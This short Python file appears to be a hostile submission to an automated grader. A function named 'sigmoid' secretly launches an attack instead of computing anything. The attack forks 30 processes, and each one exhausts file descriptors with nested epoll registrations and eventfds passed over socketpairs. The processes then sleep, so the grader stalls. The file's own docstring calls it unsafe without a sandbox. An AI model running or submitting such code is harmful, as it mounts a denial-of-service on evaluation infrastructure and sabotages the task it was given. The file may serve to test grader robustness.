"""Goal: hold up the grader with a process that takes long to end: descriptors within descriptors, millions of entries.

Without a sandbox: unsafe
"""

import os
import select
import socket
import time


def prepare():
    events = [os.eventfd(0) for _ in range(400)]
    kept = []
    try:
        while True:
            kept.append(select.epoll())
            for event in events:
                kept[-1].register(event)
            pair = socket.socketpair()
            kept.append(pair)
            socket.send_fds(pair[0], [b"x"], events[:200])
    except OSError:
        time.sleep(60)


def attack():
    for _ in range(30):
        if os.fork() == 0:
            prepare()
    time.sleep(60)


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
